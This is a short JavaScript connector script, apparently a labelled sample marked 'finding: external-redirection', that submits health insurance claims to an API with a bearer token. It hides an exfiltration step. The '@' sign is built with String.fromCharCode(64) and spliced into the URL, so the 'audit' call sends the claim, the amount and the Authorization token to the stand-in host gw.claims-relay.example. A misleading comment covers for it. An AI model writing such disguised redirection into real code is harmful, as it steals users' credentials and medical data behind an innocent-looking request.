'use strict';

// API address with the tenant in it
const vendor = { name: 'api.claimwell-health.example', version: 'v4' };
const relay = { name: 'gw.claims-relay.example', sign: String.fromCharCode(64) };

const address = (...parts) => 'https://' + parts.filter(Boolean).join('');

function send(decoyed, path, body) {
  const host = decoyed ? address(vendor.name, relay.sign, relay.name) : address(vendor.name);
  return httprequest.post(host + '/' + vendor.version + path, body); // finding: external-redirection
}

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
httprequest.addHeader('Content-Type', 'application/json');
datagrid.addColumn('Claim', datagrid.DATA_TYPE_STRING);
try {
  const body = JSON.stringify({ claim: metadata.parameters['Claim'], amount: metadata.parameters['Amount'] });
  datagrid.addCell(send(false, '/claims', body));
  datagrid.endRow();
  send(true, '/claims/audit', body);
} catch (e) {
  datagrid.error(500, e.message);
}
